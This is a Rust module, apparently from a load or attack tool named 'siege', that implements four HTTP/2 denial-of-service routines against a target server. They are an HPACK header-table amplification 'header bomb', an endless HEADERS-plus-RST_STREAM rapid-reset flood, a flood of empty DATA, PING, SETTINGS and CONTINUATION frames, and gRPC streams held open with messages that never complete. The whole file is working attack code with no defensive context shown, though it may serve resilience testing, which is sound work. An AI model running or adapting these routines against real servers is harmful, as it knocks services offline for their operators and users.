//! Kinds that speak HTTP/2.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;
use tokio::io::AsyncWriteExt as _;

use super::{Attacker, look};
use crate::siege::wire::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame, literal, request,
};

/// Between two bursts.
const BEAT: Duration = Duration::from_millis(20);

/// A field that the table keeps, and a head that names it sixteen thousand times.
pub(super) async fn header_bomb(attacker: Arc<Attacker>) -> Result<()> {
    attacker.begins();
    let mut io = attacker.target.h2(attacker.from, &[]).await?;
    let large = literal(0x40, "x-bomb", &"b".repeat(3900));
    for stream in (1..).step_by(2) {
        let mut block = request("GET", "/bomb", &[]);
        if stream == 1 {
            block.extend(&large);
        }
        // The newest entry of the table (RFC 7541 §2.3.3).
        block.resize(16 << 10, 0x80 | 62);
        io.write_all(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await?;
        look(&mut io, Duration::from_millis(50)).await?;
    }
    Ok(())
}

pub(super) async fn rapid_reset(attacker: Arc<Attacker>) -> Result<()> {
    attacker.begins();
    let mut io = attacker.target.h2(attacker.from, &[]).await?;
    let block = request("GET", "/reset", &[]);
    let mut stream = 1;
    loop {
        let mut burst = Vec::new();
        for _ in 0..10 {
            burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &block));
            burst.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            stream += 2;
        }
        io.write_all(&burst).await?;
        look(&mut io, BEAT).await?;
    }
}

pub(super) async fn empty_frames(attacker: Arc<Attacker>) -> Result<()> {
    attacker.begins();
    let mut io = attacker.target.h2(attacker.from, &[]).await?;
    io.write_all(&frame(HEADERS, END_HEADERS, 1, &request("POST", "/empty", &[]))).await?;
    let mut stream = 1;
    loop {
        stream += 2;
        let mut burst = Vec::new();
        for _ in 0..10 {
            burst.extend(frame(DATA, 0, 1, b""));
            burst.extend(frame(PING, 0, 0, b"01234567"));
            burst.extend(frame(SETTINGS, 0, 0, b""));
        }
        burst.extend(frame(HEADERS, END_STREAM, stream, &request("GET", "/empty", &[])));
        (0..9).for_each(|_| burst.extend(frame(CONTINUATION, 0, stream, b"")));
        burst.extend(frame(CONTINUATION, END_HEADERS, stream, b""));
        io.write_all(&burst).await?;
        look(&mut io, BEAT).await?;
    }
}

pub(super) async fn open_grpc(attacker: Arc<Attacker>) -> Result<()> {
    attacker.begins();
    let mut io = attacker.target.h2(attacker.from, &[]).await?;
    let fields = [("content-type", "application/grpc"), ("te", "trailers")];
    let block = request("POST", "/open.Service/Stream", &fields);
    for stream in (1..200).step_by(2) {
        io.write_all(&frame(HEADERS, END_HEADERS, stream, &block)).await?;
        // A message whose end never comes.
        io.write_all(&frame(DATA, 0, stream, b"\0\0\x10\0\0hello")).await?;
    }
    loop {
        look(&mut io, Duration::from_secs(1)).await?;
    }
}
